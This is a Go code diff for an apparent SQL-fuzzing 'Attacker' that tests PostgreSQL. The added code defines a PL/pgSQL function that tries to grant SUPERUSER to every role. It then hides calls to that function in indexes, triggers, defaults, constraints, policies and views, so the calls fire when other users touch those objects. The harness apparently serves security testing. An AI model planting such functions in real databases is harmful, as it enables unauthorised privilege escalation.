@@ -48,9 +48,37 @@ func (a *Attacker) setting() string {
 		"search_path", "role", "standard_conforming_strings", "quote_all_identifiers", "lc_messages", "bytea_output", "DateStyle", "array_nulls")
 }
 
+// grasping makes a function that takes all rights that it can get.
+const grasping = `CREATE OR REPLACE FUNCTION own.grasp(v int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $grasp$ DECLARE r record; BEGIN
+	FOR r IN SELECT rolname FROM pg_catalog.pg_roles WHERE NOT rolsuper AND rolname !~ '^pg_' LOOP
+		BEGIN
+			EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', r.rolname);
+		EXCEPTION WHEN OTHERS THEN NULL;
+		END;
+	END LOOP;
+	RETURN v; END $grasp$; CREATE OR REPLACE FUNCTION own.grasp() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM own.grasp(1); RETURN NEW; END $$;
+	CREATE TABLE IF NOT EXISTS own.parted (id int, v text) PARTITION BY RANGE (id); CREATE TABLE IF NOT EXISTS own.held (id int PRIMARY KEY, v text)`
+
+// code has the function of grasping called from somewhere at a table.
+func (a *Attacker) code() string {
+	a.made++
+	n := a.made
+	table := a.of(`own.held`, `own.held`, `own.parted`, fmt.Sprintf(`own.p%d`, a.Random.IntN(n)))
+	return strings.NewReplacer("#t", table, "#n", strconv.Itoa(n)).Replace(a.of(
+		`CREATE INDEX ON #t (own.grasp(id))`, `CREATE INDEX ON #t (id) WHERE own.grasp(1) = 1`, `CREATE STATISTICS own.s#n ON (own.grasp(id)), v FROM #t`, `ALTER TABLE #t ADD CONSTRAINT c#n CHECK (own.grasp(id) IS NOT NULL)`,
+		`ALTER TABLE #t ADD COLUMN c#n int DEFAULT own.grasp(1)`, `ALTER TABLE #t ADD COLUMN c#n float DEFAULT random()`, `ALTER TABLE #t ADD COLUMN c#n int GENERATED ALWAYS AS (own.grasp(id)) STORED`,
+		`ALTER TABLE #t ALTER v TYPE text USING own.grasp(id)::text`, `CREATE TRIGGER t#n BEFORE INSERT OR UPDATE ON #t FOR EACH ROW EXECUTE FUNCTION own.grasp(); ALTER TABLE #t ENABLE ALWAYS TRIGGER t#n`,
+		`CREATE CONSTRAINT TRIGGER t#n AFTER INSERT ON #t DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION own.grasp()`, `CREATE MATERIALIZED VIEW own.m#n AS SELECT own.grasp(id) FROM #t`,
+		`CREATE DOMAIN own.d#n AS int CHECK (own.grasp(VALUE) > 0); ALTER TABLE #t ADD COLUMN c#n own.d#n DEFAULT 1`, `CREATE TABLE own.p#n PARTITION OF own.parted FOR VALUES FROM (#n) TO (#n + 1)`,
+		`CREATE TABLE own.p#n (id int, v text); ALTER TABLE own.parted ATTACH PARTITION own.p#n FOR VALUES FROM (#n) TO (#n + 1)`,
+		`CREATE POLICY p#n ON #t USING (own.grasp(id) > 0); ALTER TABLE #t ENABLE ROW LEVEL SECURITY; ALTER TABLE #t FORCE ROW LEVEL SECURITY`, `INSERT INTO #t (id, v) VALUES (#n, 'x')`,
+		`INSERT INTO #t (id, v) SELECT i, 'y' FROM generate_series(1000000 + 20 * #n, 1000019 + 20 * #n) i`, `UPDATE #t SET v = v || 'z' WHERE id % 3 = 0`, `DELETE FROM #t WHERE id % 5 = 0`, `TRUNCATE #t`, `ANALYZE #t`,
+		`DROP TABLE #t CASCADE`, `DROP FUNCTION own.grasp(int) CASCADE`))
+}
+
 // Statement draws one.
 func (a *Attacker) Statement() string {
-	switch a.Random.IntN(13) {
+	switch a.Random.IntN(16) {
 	case 0, 1:
 		f := a.Functions[a.Random.IntN(len(a.Functions))]
 		var args []string
@@ -85,7 +113,11 @@ func (a *Attacker) Statement() string {
 	case 10:
 		return `CREATE TEMPORARY TABLE ` + a.of("note", "link", "signal", "pg_class", `"t 1"`) + ` (pid int, kind text)`
 	case 11:
-		return a.of(`BEGIN`, `COMMIT`, `ROLLBACK`, `SAVEPOINT s`, `ROLLBACK TO s`)
+		return a.of(`BEGIN`, `COMMIT`, `ROLLBACK`, `SAVEPOINT s`, `ROLLBACK TO s`, `BEGIN ISOLATION LEVEL REPEATABLE READ; SELECT 1`, `BEGIN ISOLATION LEVEL SERIALIZABLE; SELECT 1`)
+	case 12:
+		return grasping
+	case 13, 14:
+		return a.code()
 	}
 	return `ALTER DEFAULT PRIVILEGES IN SCHEMA own GRANT SELECT ON TABLES TO ` + a.of(`PUBLIC`, `attacker_connects`)
 }
